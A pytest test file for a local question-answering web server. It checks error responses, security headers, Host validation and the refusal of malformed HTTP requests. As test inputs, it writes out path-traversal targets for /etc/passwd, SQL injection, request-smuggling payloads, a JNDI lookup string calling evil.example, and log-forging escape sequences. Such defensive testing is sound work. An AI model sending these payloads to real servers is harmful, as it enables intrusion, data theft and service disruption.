"""Errors as problem documents, the headers of every response, and what the real server makes of requests that are none."""

import json
import re
import socket
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import apsw
import pytest
from starlette.testclient import TestClient

from api.server import listen
from index.library import DATABASE, Library
from index.view import Hit
from qa.evidence import Reading
from qa.questions import Understood
from qa.readers import LEXICAL

MARKER = "MARKER-7f3a"
SAFE = {
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
    "content-security-policy": "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; img-src 'self' data:; "
    "base-uri 'none'; form-action 'none'; frame-ancestors 'none'",
}

Problem = Callable[..., dict[str, Any]]
Exchange = Callable[[bytes], Any]


class BrokenReader:
    """A reader that fails when it reads, as one with a damaged model would."""

    name = "broken"
    calibration = LEXICAL

    def read(self, question: Understood, hits: Sequence[Hit], weight: Callable[[str], float]) -> Reading:
        raise RuntimeError(f"{MARKER} in /srv/model")


@pytest.fixture
def broken(editorial_library: Library, client_of: Callable[..., TestClient]) -> TestClient:
    return client_of(editorial_library, BrokenReader())


# Paths and methods


@pytest.mark.parametrize(
    "path",
    [
        "/nowhere",
        "/ask/",
        "/documents/",
        "/docs",
        "/redoc",
        "/page/",
        "/health;x",
        "/HEALTH",
        "/documents/a/b",
        f"/{MARKER}",
        f"/{'a' * 5000}",
    ],
)
@pytest.mark.parametrize("method", ["GET", "POST"])
def test_an_unknown_path_is_a_problem(client: TestClient, problem: Problem, method: str, path: str):
    members = problem(client.request(method, path), 404, "not_found")
    assert MARKER not in str(members)


@pytest.mark.parametrize(
    ("method", "path", "known"),
    [
        ("GET", "/ask", "POST"),
        ("PUT", "/ask", "POST"),
        ("OPTIONS", "/ask", "POST"),
        ("TRACE", "/ask", "POST"),
        (MARKER, "/ask", "POST"),
        ("DELETE", "/documents", "GET"),
        ("POST", "/search?q=x", "GET"),
        ("PATCH", "/documents/car-t-resistance-editorial", "GET"),
        ("PUT", "/documents/car-t-resistance-editorial/text", "GET"),
        ("POST", "/health", "GET"),
        pytest.param("POST", "/", "GET", id="the page"),
        pytest.param("DELETE", "/room.js", "GET", id="a file of the page"),
    ],
)
def test_a_method_that_a_path_does_not_know_is_a_problem_and_allow_names_those_it_knows(
    client: TestClient, problem: Problem, method: str, path: str, known: str
):
    response = client.request(method, path)
    problem(response, 405, "method_not_allowed")
    assert known in response.headers.get("allow", "").split(", ")


@pytest.mark.parametrize("path", ["/health", "/ready", "/documents", "/documents/car-t-resistance-editorial/text"])
def test_head_is_known_where_get_is(client: TestClient, path: str):
    """As RFC 9110, 9.1 has it; what watches a service often asks with HEAD."""
    response = client.head(path)
    assert (response.status_code, response.content) == (200, b"")
    assert response.headers["content-type"] == client.get(path).headers["content-type"]


@pytest.mark.parametrize(
    ("target", "status"),
    [
        pytest.param("//documents", 404, id="two slashes"),
        pytest.param("/documents//text", 404, id="an empty id"),
        pytest.param("/../../etc/passwd", 404, id="dots"),
        pytest.param("/%2e%2e/%2e%2e/etc/passwd", 404, id="encoded dots"),
        pytest.param("/..%2f..%2fpyproject.toml", 404, id="encoded slashes"),
        pytest.param("/room.js/../../routes.py", 404, id="dots after a file"),
        pytest.param("/..\\..\\routes.py", 404, id="backslashes"),
        pytest.param("/routes.py", 404, id="a source file"),
        pytest.param("/%00", 404, id="NUL"),
        pytest.param("/room.js%00.html", 404, id="NUL after a file"),
        pytest.param("/health;x", 404, id="a parameter"),
        pytest.param("/documents/%00", 422, id="NUL as an id"),
        pytest.param("/documents/..%2fx", 404, id="dots as an id"),
        pytest.param("http://evil.example/health", 404, id="absolute form"),
    ],
)
def test_odd_paths_lead_nowhere_on_the_real_server(exchange: Exchange, target: str, status: int):
    replies = exchange(f"GET {target} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
    assert replies.statuses == [status]
    assert b"content-type: application/problem+json" in replies.received
    assert b"root:" not in replies.received
    assert b"import" not in replies.received


# Ids


@pytest.mark.parametrize("path", ["/documents/{}", "/documents/{}/text", "/search?q=x&document={}"])
@pytest.mark.parametrize(
    ("id", "status"),
    [
        pytest.param("nowhere", 404, id="unknown"),
        pytest.param("'%20OR%201=1--", 404, id="SQL"),
        pytest.param("%25", 404, id="a wildcard"),
        pytest.param("-1", 404, id="a negative number"),
        pytest.param("caf%C3%A9", 404, id="not ASCII"),
        pytest.param("Car-T-Resistance-Editorial", 404, id="other case"),
        pytest.param(MARKER, 404, id="a marker"),
        pytest.param("a" * 120, 404, id="the longest"),
        pytest.param("a" * 121, 422, id="too long"),
        pytest.param("%00", 422, id="NUL"),
        pytest.param(f"%00{MARKER}", 422, id="NUL and a marker"),
    ],
)
def test_an_id_that_names_no_document_is_a_problem_on_every_path(client: TestClient, problem: Problem, path: str, id: str, status: int):
    members = problem(client.get(path.format(id)), status)
    assert members["code"] == {404: "document_not_found", 422: "invalid"}[status]
    assert MARKER not in str(members)


def test_a_missing_document_gives_the_same_body_whatever_its_id(client: TestClient):
    bodies = [client.get(f"/documents/{id}").json() for id in ("nowhere", "elsewhere")]
    assert [{**body, "request_id": ""} for body in bodies] == [{**bodies[0], "request_id": ""}] * 2


# Query parameters


@pytest.mark.parametrize(
    ("query", "code", "where"),
    [
        pytest.param("", "invalid", "query.q", id="none"),
        pytest.param("q=", "question_invalid", None, id="empty"),
        pytest.param("q=%20%20", "question_invalid", None, id="spaces"),
        pytest.param("q=%E2%80%8B", "question_invalid", None, id="zero width"),
        pytest.param("q=%00", "invalid", "query.q", id="NUL"),
        pytest.param(f"q={'a' * 2001}", "invalid", "query.q", id="too long"),
        pytest.param("q=x&limit=0", "invalid", "query.limit", id="limit 0"),
        pytest.param("q=x&limit=51", "invalid", "query.limit", id="limit 51"),
        pytest.param("q=x&limit=-1", "invalid", "query.limit", id="limit -1"),
        pytest.param(f"q=x&limit={'9' * 400}", "invalid", "query.limit", id="limit of 400 digits"),
        pytest.param(f"q=x&limit={'9' * 5000}", "invalid", "query.limit", id="limit of 5,000 digits"),
        pytest.param("q=x&limit=1.5", "invalid", "query.limit", id="limit 1.5"),
        pytest.param(f"q=x&limit={MARKER}", "invalid", "query.limit", id="limit a word"),
        pytest.param("q=x&limit=", "invalid", "query.limit", id="limit empty"),
        pytest.param("q=x&document=", "invalid", "query.document.0", id="document empty"),
        pytest.param(f"q=x&{MARKER}={MARKER}", "invalid", "query.(unknown)", id="unknown parameter"),
        pytest.param("q=x&documents=nowhere", "invalid", "query.documents", id="a parameter misspelt"),
    ],
)
def test_a_wrong_query_is_a_problem_that_names_the_parameter(
    client: TestClient, problem: Problem, query: str, code: str, where: str | None
):
    members = problem(client.get(f"/search?{query}"), 422, code)
    assert [fault["where"] for fault in members.get("errors", [])] == ([where] if where else [])
    assert MARKER not in str(members)


# Faults


@pytest.mark.parametrize(
    ("body", "where", "what"),
    [
        pytest.param({}, "body.question", "required", id="nothing"),
        pytest.param({"question": 5}, "body.question", "string", id="a number for a text"),
        pytest.param({"question": "x", "limit": 21}, "body.limit", "less than or equal to 20", id="limit over its bound"),
        pytest.param({"question": "x", "history": [{"role": "system", "content": "x"}]}, "body.history.0.role", "'user'", id="role"),
        pytest.param({"question": "x", "history": [{}, {"role": "user"}]}, "body.history.0.role", "required", id="deep inside"),
        pytest.param({"question": "x", MARKER: 1}, "body.(unknown)", "not permitted", id="a name of the client's"),
        pytest.param(
            {"question": "x", "history": [{"role": "user", "content": "", MARKER: 1}]}, "body.history.0.(unknown)", "not", id="deep"
        ),
        pytest.param({"question": "a" * 2001}, "body.question", "at most 2000 characters", id="too long"),
        pytest.param({"question": "x", "documents": [""]}, "body.documents.0", "at least 1 character", id="too short"),
    ],
)
def test_a_fault_names_its_place_and_the_rule(client: TestClient, problem: Problem, body: dict[str, Any], where: str, what: str):
    members = problem(client.post("/ask", json=body), 422, "invalid")
    assert members["detail"] == "The request is not what it should be; see `errors`."
    assert members["errors"][0]["where"] == where
    assert what in members["errors"][0]["what"]
    assert MARKER not in str(members)


def test_a_fault_of_ours_reads_as_a_sentence_of_ours(client: TestClient, problem: Problem):
    members = problem(client.post("/ask", json={"question": "a\0b"}), 422, "invalid")
    assert members["errors"] == [{"where": "body.question", "what": "NUL and surrogates are not characters of a text"}]


def test_no_more_than_twenty_faults_are_named(client: TestClient, problem: Problem):
    body = {"question": "x", **{f"{MARKER}-{i}": i for i in range(1000)}}
    members = problem(client.post("/ask", json=body), 422, "invalid")
    assert members["errors"] == [{"where": "body.(unknown)", "what": "Extra inputs are not permitted"}] * 20


# When Footnote itself fails


def test_a_failure_of_ours_tells_nothing_of_it_but_the_id_under_which_the_log_does(broken: TestClient, caplog: pytest.LogCaptureFixture):
    response = broken.post("/ask", json={"question": "CD19"})
    assert (response.status_code, response.headers["content-type"]) == (500, "application/problem+json")
    assert response.json()["code"] == "internal"
    assert MARKER not in response.text
    assert f"request {response.json()['request_id']} failed" in caplog.text
    assert MARKER in caplog.text


def test_a_failure_of_ours_carries_the_headers_of_every_response(broken: TestClient, problem: Problem):
    response = broken.post("/ask", json={"question": "CD19"})
    assert {name: response.headers.get(name) for name in SAFE} == SAFE
    problem(response, 500, "internal")


def _spoil(library: Library, *statements: str) -> None:
    """Change the database behind the library's back, as a bad disk or another program would."""
    connection = apsw.Connection(str(library.folder / DATABASE))
    for statement in statements:
        connection.execute(statement).fetchall()
    connection.close()


def test_a_library_that_cannot_be_read_is_not_ready(
    make_library: Callable[..., Library], client_of: Callable[..., TestClient], problem: Problem
):
    library = make_library({"wombat.txt": "The wombat digs burrows.\n"})
    client = client_of(library)
    assert client.get("/ready").status_code == 200
    _spoil(library, "DELETE FROM settings")
    problem(client.get("/ready"), 503, "not_ready")
    assert client.get("/health").json() == {"status": "ok"}


@pytest.mark.parametrize(
    "statement",
    [
        pytest.param("UPDATE documents SET text = replace(text, '3 burrows', '9 burrows')", id="text"),
        pytest.param("UPDATE passages SET tokens = zeroblob(length(tokens))", id="token vectors"),
        pytest.param("UPDATE passages SET tokens = x'00'", id="token vectors cut short"),
        pytest.param("UPDATE passages SET sentences = zeroblob(length(sentences))", id="sentences"),
        pytest.param("UPDATE passages SET start = start + 1", id="place"),
    ],
)
def test_rows_that_do_not_fit_their_hashes_are_not_quoted(
    make_library: Callable[..., Library], client_of: Callable[..., TestClient], problem: Problem, statement: str
):
    library = make_library({"wombat.txt": "The wombat digs 3 burrows.\n"})
    _spoil(library, statement)
    problem(client_of(library).post("/ask", json={"question": "How many burrows does the wombat dig?"}), 503, "library_damaged")


# Headers


@pytest.mark.parametrize(
    ("method", "path", "status"),
    [
        ("GET", "/", 200),
        ("GET", "/room.js", 200),
        ("GET", "/page.css", 200),
        ("GET", "/health", 200),
        ("GET", "/openapi.json", 200),
        ("GET", "/documents/car-t-resistance-editorial/text", 200),
        ("GET", "/search?q=CD19", 200),
        ("GET", "/nowhere", 404),
        ("GET", "/ask", 405),
        ("POST", "/ask", 415),
        ("GET", "/search", 422),
    ],
)
def test_every_response_says_what_a_browser_may_do_with_it(client: TestClient, method: str, path: str, status: int):
    response = client.request(method, path)
    assert response.status_code == status
    assert {name: response.headers.get(name) for name in SAFE} == SAFE
    assert re.fullmatch(r"[0-9a-f]{16}", response.headers["x-request-id"])
    assert re.fullmatch(r"total;dur=\d+\.\d", response.headers["server-timing"])
    assert "server" not in response.headers
    assert not [name for name in response.headers if name.startswith("access-control-")]


def test_every_request_has_an_id_of_its_own_and_the_client_cannot_choose_it(client: TestClient):
    ids = [client.get("/health", headers={"X-Request-ID": MARKER}).headers["x-request-id"] for _ in range(20)]
    assert len(set(ids)) == 20
    assert MARKER not in ids


def test_other_sites_may_neither_send_json_nor_read_answers(client: TestClient):
    """A preflight is refused and no response lets another origin read it, so a page elsewhere cannot ask in a visitor's name."""
    asked = {"Origin": "https://evil.example", "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "content-type"}
    assert client.options("/ask", headers=asked).status_code == 405
    response = client.get("/documents", headers={"Origin": "https://evil.example"})
    assert not [name for name in response.headers if name.startswith("access-control-")]


# Requests that are none, on the real server

ASK = b"POST /ask HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
BODY = b'{"question":"CD19"}'
HEALTH = b"GET /health HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"


@pytest.mark.parametrize(
    "request_sent",
    [
        pytest.param(ASK + b"Content-Length: 19\r\nContent-Length: 20\r\n\r\n" + BODY, id="two lengths"),
        pytest.param(
            ASK + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n13\r\n" + BODY + b"\r\n0\r\n\r\n", id="a length and chunks"
        ),
        pytest.param(ASK + b"Content-Length: -1\r\n\r\n" + BODY, id="a negative length"),
        pytest.param(ASK + b"Content-Length: +19\r\n\r\n" + BODY, id="a length with a sign"),
        pytest.param(ASK + b"Content-Length: 0x13\r\n\r\n" + BODY, id="a hexadecimal length"),
        pytest.param(ASK + "Content-Length: ١٩\r\n\r\n".encode() + BODY, id="Arabic digits"),
        pytest.param(ASK + b"Content-Length: " + b"9" * 26 + b"\r\n\r\n" + BODY, id="a length of 26 digits"),
        pytest.param(ASK + b"Content-Length: " + b"9" * 5000 + b"\r\n\r\n" + BODY, id="a length of 5,000 digits"),
        pytest.param(ASK + b"Transfer-Encoding: gzip\r\n\r\n" + BODY, id="another transfer encoding"),
        pytest.param(ASK + b"Transfer-Encoding: chunked\r\n\r\nZZ\r\n" + BODY + b"\r\n0\r\n\r\n", id="a bad size of a chunk"),
        pytest.param(ASK + b"Transfer-Encoding: chunked\r\n\r\n" + b"F" * 22 + b"\r\n" + BODY, id="a huge size of a chunk"),
        pytest.param(ASK + b"Transfer-Encoding: chunked\r\n\r\n-13\r\n" + BODY, id="a negative size of a chunk"),
        pytest.param(b"GET /health HTTP/1.1\r\nHost : localhost\r\n\r\n", id="a space before the colon"),
        pytest.param(b"GET /health HTTP/1.1\r\n\r\n", id="no host"),
        pytest.param(b"GET /health HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", id="two hosts"),
        pytest.param(b"GET /health\r\n\r\n", id="HTTP/0.9"),
        pytest.param(b"GET  /health HTTP/1.1\r\nHost: localhost\r\n\r\n", id="two spaces"),
        pytest.param(b"GET /\x1b[2J HTTP/1.1\r\nHost: localhost\r\n\r\n", id="an escape sequence in the path"),
        pytest.param("GET /é HTTP/1.1\r\nHost: localhost\r\n\r\n".encode(), id="a path that is not ASCII"),
        pytest.param(b"GET /health HTTP/1.1\r\nHost: localhost\r\nX-A: a\x00b\r\n\r\n", id="NUL in a header"),
        pytest.param(b"\x16\x03\x01\x00\xa5\x01\x00\x00" + bytes(range(160)), id="a TLS greeting"),
        pytest.param(b"\x00\x01\x02\r\n\r\n", id="noise"),
    ],
)
def test_what_is_no_http_request_is_refused_and_nothing_after_it_is_answered(exchange: Exchange, request_sent: bytes):
    replies = exchange(request_sent + HEALTH + b"\r\n")
    assert replies.statuses == [400]
    assert b'{"status":"ok"}' not in replies.received


@pytest.mark.parametrize(
    "request_sent",
    [
        pytest.param(HEALTH + b"X-A: " + b"a" * 12_000 + b"\r\n\r\n", id="12 KB of headers"),
        pytest.param(HEALTH + b"".join(b"X-%d: a\r\n" % i for i in range(101)) + b"\r\n", id="101 headers"),
        pytest.param(HEALTH + b"User-Agent: ${jndi:ldap://evil.example/a}\r\n\r\n", id="a formula"),
        pytest.param(HEALTH + b"X-A: a\r\n b\r\n\r\n", id="a folded header"),
        pytest.param(b"GET /health HTTP/1.0\r\n\r\n", id="HTTP/1.0"),
        pytest.param(b"GET /health HTTP/1.1\nHost: localhost\nConnection: close\n\n", id="line feeds alone, as RFC 9112, 2.2 lets them be"),
    ],
)
def test_an_odd_request_that_is_one_gets_its_one_answer(exchange: Exchange, request_sent: bytes):
    replies = exchange(request_sent)
    assert replies.statuses == [200]
    assert replies.received.endswith(b'{"status":"ok"}')


@pytest.mark.parametrize("host", ["evil.example", "evil.example:8000", "evil.example/x?y#z", "localhost.evil.example"])
def test_on_loopback_the_server_answers_to_names_of_this_machine_alone(exchange: Exchange, host: str):
    """A page that lets its own name point to this machine cannot read the documents."""
    replies = exchange(f"GET /documents HTTP/1.1\r\nHost: {host}\r\n\r\n".encode() + HEALTH + b"\r\n")
    assert replies.statuses == [421]
    assert b"car-t" not in replies.received


@pytest.mark.parametrize("host", ["localhost", "LOCALHOST:80", "127.0.0.1:8000", "[::1]", "[::1]:8000"])
def test_the_names_of_this_machine_are_answered_to(exchange: Exchange, host: str):
    replies = exchange(f"GET /health HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
    assert replies.statuses == [200]


@pytest.mark.parametrize(
    "request_sent",
    [
        pytest.param(HEALTH + b"X-A: " + b"a" * 17_000 + b"\r\n\r\n", id="a header of 17 KB"),
        pytest.param(b"GET /" + b"a" * 17_000 + b" HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", id="a path of 17 KB"),
        pytest.param(HEALTH + b"X-A: " + b"a" * 1_000_000 + b"\r\n\r\n", id="a header of 1 MB"),
        pytest.param(HEALTH + b"X-A: " + b"a" * 20_000_000 + b"\r\n\r\n", id="a header of 20 MB"),
        pytest.param(HEALTH + b"X-A: " + b"a" * 20_000_000, id="a header without an end"),
        pytest.param(HEALTH + b"".join(b"X-%d: a\r\n" % i for i in range(20_000)) + b"\r\n", id="20,000 headers"),
    ],
)
def test_headers_over_the_limit_are_refused(exchange: Exchange, request_sent: bytes):
    replies = exchange(request_sent)
    assert len(replies.statuses) <= 1  # none where the connection was reset before the answer could be read
    assert set(replies.statuses) <= {400, 414, 431}
    assert b'{"status":"ok"}' not in replies.received


def test_control_characters_of_a_request_do_not_reach_the_log(exchange: Exchange, running: Any):
    request = (
        b"GET /%1b%5b2J%0d%0aFORGED HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nUser-Agent: \x1b[2J" + b"a" * 10_000 + b"\r\n\r\n"
    )
    assert exchange(request).statuses == [404]
    body = json.dumps({"question": "\x1b[2J\r\nFORGED", "\x1b[2J": 1}).encode()
    assert exchange(ASK + b"Connection: close\r\nContent-Length: %d\r\n\r\n" % len(body) + body).statuses == [422]
    logged = running.log.read_bytes()
    assert b"\x1b" not in logged
    assert b"FORGED" not in logged
    assert b"Traceback" not in logged


# The socket


def test_a_socket_accepts_connections_from_the_moment_it_is_made():
    """What the ready line promises: clients that come before the server has started wait and are not refused."""
    bound = listen("127.0.0.1", 0)
    with bound, socket.create_connection(bound.getsockname()) as connection:
        assert connection.getpeername() == bound.getsockname()


def test_a_port_that_is_listened_to_cannot_be_had_twice():
    with listen("127.0.0.1", 0) as bound, pytest.raises(OSError, match="Address already in use"):
        listen("127.0.0.1", bound.getsockname()[1])


def test_a_socket_can_be_had_for_an_ipv6_address():
    if not Path("/proc/net/if_inet6").exists():
        pytest.skip("this machine has no IPv6")
    with listen("::1", 0) as bound:
        assert bound.getsockname()[0] == "::1"
